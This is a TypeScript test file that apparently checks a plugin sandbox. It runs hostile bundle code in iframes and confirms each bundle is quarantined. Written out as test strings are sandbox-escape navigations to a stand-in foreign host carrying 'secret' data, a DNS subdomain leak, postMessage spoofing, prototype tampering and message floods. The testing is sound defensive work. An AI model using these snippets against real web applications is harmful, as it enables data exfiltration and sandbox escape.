import * as assert from 'uvu/assert';
import { holds } from '../console/console-bench.ts';
import { eventually } from '../helpers/within.ts';
import {
  attackSuite,
  beside,
  hostileLater,
  type Rig,
  runAttacks,
  runIn,
  sideBySide,
  withControl,
} from './attack-rig.ts';
import { extension, rootOf, stateOf, stillRuns } from './bundle-folder.ts';

interface Breach {
  code: string;
  /** What the foreign place hears without a sandbox. */
  heard?: string;
  /** An expression that holds in the page around the frame then: `said` is what was said to it, `grown` by how much the history is longer. */
  shows?: string;
}

const frame = (fields: string) => `document.body.append(make('iframe', ${fields})); await wait(300)`;
const click = (fields: string) => `const a = make('a', ${fields}); document.body.append(a); a.click()`;
const html = (text: string) => `URL.createObjectURL(new Blob(['${text}'], { type: 'text/html' }))`;

/** Rows of attacks each of which ends the frame for good; every attack is a bundle of its own. */
const rows: Record<string, Record<string, Breach>> = {
  'self-navigation, meta refresh, `data:` and `blob:` documents: the frame may show one document': {
    'sets-location': { code: `location.href = foreign + 'navigated?secret'`, heard: '/navigated?secret' },
    'replaces-location': { code: `location.replace(foreign + 'replaced?secret')`, heard: '/replaced?secret' },
    refreshes: {
      code: `document.head.append(make('meta', { httpEquiv: 'refresh', content: '0;url=' + foreign + 'refreshed' }))`,
      heard: '/refreshed',
    },
    'follows-a-link': { code: click(`{ href: foreign + 'followed' }`), heard: '/followed' },
    'opens-data': { code: `location.href = 'data:text/html,<img src=' + foreign + 'data.png>'`, heard: '/data.png' },
    'opens-a-blob': { code: `location.href = ${html(`<img src=' + foreign + 'blob.png>`)}`, heard: '/blob.png' },
    'opens-the-api': { code: `location.href = endpoint + '/api/health'`, shows: 'loads > 1' },
    'opens-the-console': { code: `location.href = endpoint + '/'`, shows: 'loads > 1' },
    'opens-itself': { code: `location.reload()`, shows: 'loads > 1' },
    'opens-a-neighbour': {
      code: `location.href = endpoint + '/plugin-sandbox.html?plugin=neighbour'`,
      shows: 'loads > 1',
    },
  },
  'nested frames: `frame-src`': {
    'nests-foreign': { code: frame(`{ src: foreign + 'nested' }`), heard: '/nested' },
    'nests-the-api': { code: frame(`{ src: endpoint + '/api/health' }`), shows: `frames[0].length === 1` },
    'nests-itself': { code: frame(`{ src: location.href }`), shows: `frames[0].length === 1` },
  },
  'a second word to the window of the console: it listens once': {
    'says-hello-again': { code: `parent.postMessage({ t: 'hello', v: 1 }, '*')`, shows: `said[0].t === 'hello'` },
    'says-anything': { code: `top.postMessage({ t: 'init' }, '*')`, shows: `said[0].t === 'init'` },
  },
  'the history that it shares with the console': {
    'sets-fragments': { code: `location.hash = '#a'; await wait(100)`, shows: 'grown === 1' },
  },
  'a flood of messages: 300 in a second': {
    'floods-errors': {
      code: `for (let i = 0; i < 100000; i++) dispatchEvent(new ErrorEvent('error', { message: 'flood ' + i }))`,
      shows: 'said.length > 10000',
    },
    'floods-sizes': {
      code: `const all = () => { for (let i = 0; i < 50; i++) setTimeout(() => { dispatchEvent(new PromiseRejectionEvent('unhandledrejection', { promise: Promise.resolve(), reason: Math.random() })); }); setTimeout(all, 10); }; all()`,
      shows: 'said.length > 1000',
    },
  },
  'tampering with prototypes before it misbehaves: the bootstrap keeps what it needs': {
    'tampers-and-navigates': {
      code: `MessagePort.prototype.postMessage = () => {}; EventTarget.prototype.addEventListener = () => {}; Function.prototype.call = () => {}; Function.prototype.apply = () => {}; Array.prototype.push = () => 0; String.prototype.slice = () => ''; Object.defineProperty(MessageEvent.prototype, 'data', { get: () => ({}) }); try { document.open(); document.write('x'); document.close(); } catch {} location.href = foreign + 'tampered'`,
      heard: '/tampered',
    },
    'tampers-and-speaks': {
      code: `MessagePort.prototype.postMessage = () => {}; window.postMessage = () => {}; parent.postMessage('x', '*')`,
      shows: `said[0] === 'x'`,
    },
  },
};

/** A page that has no rules for its first frame, and what it sees. */
const witness = `
  const frame = document.querySelector('iframe');
  window.witness = { said: [], loads: 1, history: history.length };
  addEventListener('message', ({ data, source }) => {
    if (source !== frame.contentWindow) return;
    witness.said.push(data);
  });
  frame.addEventListener('load', () => { witness.loads++; });`;
/** What the bootstrap does with errors and heights, without its rules. */
const naiveFrame = `
  addEventListener('error', ({ message }) => parent.postMessage(message, '*'));
  addEventListener('unhandledrejection', ({ reason }) => parent.postMessage(String(reason), '*'));`;

/** A name carries what a bundle knows to whoever answers for its domain. */
const burst = `for (let i = 0; i < 200; i++) document.body.append(make('iframe', { src: foreign.replace('//', '//secret-' + i + '.') }))`;

const test = attackSuite('A bundle stays in its frame', (bundles, { confined }) => {
  for (const row of Object.values(rows))
    for (const [name, { code }] of Object.entries(row)) bundles.add(name, hostileLater(confined, code));
  bundles.add('looks-up', hostileLater(confined, burst));
  bundles.add('nests-a-document', nesting);
});

const endsTheFrame = (breaches: Record<string, Breach>) => async (rig: Rig) => {
  const { foreign } = rig;
  const attackers = Object.keys(breaches);
  await beside(rig, attackers, async (page) => {
    await page.evaluate(`location.hash = '#/settings/plugins'`);
    for (const name of attackers) {
      await stateOf(page, name, 'quarantined').waitFor({ timeout: 40_000 });
      assert.is(await page.locator(`iframe[title="${name}: x"]`).count(), 0, name);
    }
    await stillRuns(page, 'neighbour');
    assert.match(page.url(), /#\/settings\/plugins$/);
  });
  for (const [name, { code, heard, shows }] of Object.entries(breaches)) {
    assert.ok(heard ?? shows, `${name} has a control`);
    await withControl(rig, async (page) => {
      await page.evaluate(witness);
      await runIn(page, rig, { code: `${naiveFrame} ${code}` });
      if (heard) await eventually(10_000, () => foreign.control.heard.includes(heard), `${heard} without a sandbox`);
      const seen = '{ said, loads } = witness, grown = history.length - witness.history';
      if (shows) await holds(page, `(() => { const ${seen}; return ${shows}; })()`);
    });
  }
  assert.equal(foreign.confined.heard, []);
};

sideBySide(test, Object.fromEntries(Object.entries(rows).map(([row, breaches]) => [row, endsTheFrame(breaches)])));

/** The module, run in a document inside of the frame, would say so to the frame. */
const nesting = `if (location.href === 'about:srcdoc') parent.postMessage('the module runs nested', '*');
${extension(`
  const said = [];
  addEventListener('message', ({ data }) => said.push(data));
  const nested = document.createElement('iframe');
  nested.srcdoc = '<script type="module" src="' + context.endpoint + '/plugins/nests-a-document/.sandbox/main.js"></' + 'script><p>nested</p>';
  nested.onload = () => setTimeout(() => { element.textContent = 'heard ' + JSON.stringify(said.filter((one) => typeof one === 'string')); }, 1000);
  document.body.append(nested);`)}`;

test('a nested `srcdoc` document with the entry: the module refuses to run', async (rig) => {
  await beside(rig, ['nests-a-document'], async (page) => {
    const root = rootOf(page, 'nests-a-document').filter({ hasText: 'heard' });
    await root.waitFor();
    assert.is(await root.innerText(), 'heard []');
  });
  await withControl(rig, async (page) => {
    const code = `return await new Promise((ok) => {
      addEventListener('message', ({ data }) => ok(data));
      document.body.append(make('iframe', { srcdoc: '<script type="module" src="' + endpoint + '/plugins/nests-a-document/main.js"></' + 'script>' }));
    })`;
    assert.is(await runIn(page, rig, { code }), 'done: the module runs nested');
  });
});

test('name look-ups through blocked navigations: none, and the frame goes', async (rig) => {
  await beside(rig, ['looks-up'], async (page) => {
    await page.evaluate(`location.hash = '#/settings/plugins'`);
    await stateOf(page, 'looks-up', 'quarantined').waitFor({ timeout: 40_000 });
    assert.is(await page.locator('iframe[title="looks-up: x"]').count(), 0);
    await stillRuns(page, 'neighbour');
  });
  await withControl(rig, async (page) => {
    await runIn(page, rig, { code: burst });
  });
});

runAttacks(test, (log) => {
  const named = (who: string) => new Set(log.match(new RegExp(`secret-\\d+\\.${who}`, 'g'))).size;
  console.log(
    `\nFIGURE names that a hostile bundle made the browser look up or connect to: ${named('confined')} of 200 (without a sandbox: ${named('control')})`,
  );
  assert.ok(named('control') > 100);
  assert.is(named('confined'), 0);
});
